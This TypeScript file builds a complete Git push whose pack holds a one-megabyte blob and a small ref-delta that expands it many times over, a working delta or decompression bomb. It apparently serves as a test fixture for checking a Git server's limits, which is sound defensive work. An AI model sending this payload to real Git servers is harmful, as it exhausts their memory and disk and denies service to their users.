import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { pktLine } from './http-bytes.ts';

const megabyte = 1024 ** 2;
const types = { blob: 3, refDelta: 7 } as const;

/** A push of a blob of a megabyte, and of one that is made of it so many times: gitformat-pack(5), "Deltified representation". */
export function deltaBomb(oid: string, megabytes: number): { readonly push: Buffer; readonly bytes: number } {
  const base = Buffer.alloc(megabyte);
  const baseOid = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  // All of the base, from its begin: a copy of 0x100000 bytes has one byte of size, the third.
  const copy = Buffer.of(0x80 | 0x40, 0x10);
  const copies = Buffer.concat(Array.from({ length: megabytes }, () => copy));
  const delta = Buffer.concat([varint(base.length), varint(megabytes * megabyte), copies]);
  const head = Buffer.from('PACK\0\0\0\x02\0\0\0\x02', 'latin1');
  const objects = [entry(types.blob, base.length), deflateSync(base), entry(types.refDelta, delta.length), baseOid];
  const body = Buffer.concat([head, ...objects, deflateSync(delta)]);
  const pack = Buffer.concat([body, createHash('sha1').update(body).digest()]);
  const command = pktLine(`${'0'.repeat(40)} ${oid} refs/heads/delta\0 report-status`);
  return { push: Buffer.concat([command, Buffer.from('0000'), pack]), bytes: pack.length };
}

/** Seven bits a byte, the lowest first. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 0x7f; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 0x80);
  return Buffer.from([...bytes, rest]);
}

/** The type, and the size in which four bits are beside it. */
function entry(type: number, size: number): Buffer {
  const first = (type << 4) | (size & 0x0f);
  const rest = size >>> 4;
  return rest === 0 ? Buffer.of(first) : Buffer.concat([Buffer.of(first | 0x80), varint(rest)]);
}
